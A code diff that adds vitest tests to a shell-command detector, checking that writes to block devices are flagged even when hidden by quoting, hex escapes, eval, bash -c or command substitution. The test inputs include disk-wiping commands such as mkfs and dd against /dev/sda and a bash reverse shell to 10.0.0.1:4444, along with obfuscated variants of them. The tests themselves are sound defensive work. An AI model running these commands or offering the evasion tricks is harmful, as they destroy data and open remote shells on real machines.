@@ -1,6 +1,6 @@
 import { describe, expect, it } from "vitest";
 import { commandHits, commandRules } from "../../../src/detectors/commands/index.js";
-import { Trait, traitsOf } from "../../../src/detectors/commands/rules/dispatch.js";
+import { runRulesOnEveryCommand, Trait, traitsOf } from "../../../src/detectors/commands/rules/dispatch.js";
 import { analyzeShell } from "../../../src/detectors/commands/shell/analyze.js";
 import { dispatchConformance } from "../../helpers/dispatch-conformance.js";
 import { fragmentFuzz } from "../../helpers/fragment-fuzz.js";
@@ -213,5 +213,41 @@ describe("commands dispatch table", () => {
     for (const t of [Trait.assignment, Trait.elevated, Trait.redirect, Trait.slash, Trait.substitution])
       expect(traits & t).toBe(t);
     expect(traitsOf(analyzeShell("echo hi").invocations[0]!)).toBe(0);
+  });
+
+  it("marks a device named in an argument or a redirection target, however it is quoted", () => {
+    const device = (text: string) => (traitsOf(analyzeShell(text).invocations[0]!) & Trait.device) !== 0;
+    for (const text of [
+      "mkfs.ext4 /dev/sdb1",
+      "pv x --output=/dev/sda",
+      "cat x > /dev/sda",
+      "exec 3<>/dev/tcp/10.0.0.1/80",
+      "tee '/dev/'sda",
+      'cp img "/dev"/sdb',
+      "cp img /dev\\/sdb",
+      "cp img $'/dev/sd\\x62'",
+      "sudo dd of=/dev/sda",
+    ])
+      expect(device(text), text).toBe(true);
+    for (const text of ["curl https://example.com/dev/x", "ls src/dev", "cat /devices/x", "echo hi"])
+      expect(device(text), text).toBe(text.includes("/dev/"));
+  });
+
+  it("still finds device writes hidden by quoting, nesting and substitution", () => {
+    for (const text of [
+      "mkfs.ext4 '/dev/'sdb1",
+      "m''kfs.ext4 /dev/sdb1",
+      "\\mkfs /dev/sdb",
+      "$'\\x6dkfs' /dev/sdb",
+      "bash -c 'cat x > /dev/sda'",
+      "eval 'cp img /dev/sdb'",
+      "echo $(pv x --output /dev/sda)",
+      "bash -c 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'",
+      "X=1 cat x >'/dev/sda'",
+    ]) {
+      const analysis = analyzeShell(text);
+      expect(commandHits(analysis), text).toEqual(runRulesOnEveryCommand(commandRules, analysis));
+      expect(commandHits(analysis).length, text).toBeGreaterThan(0);
+    }
   });
 });
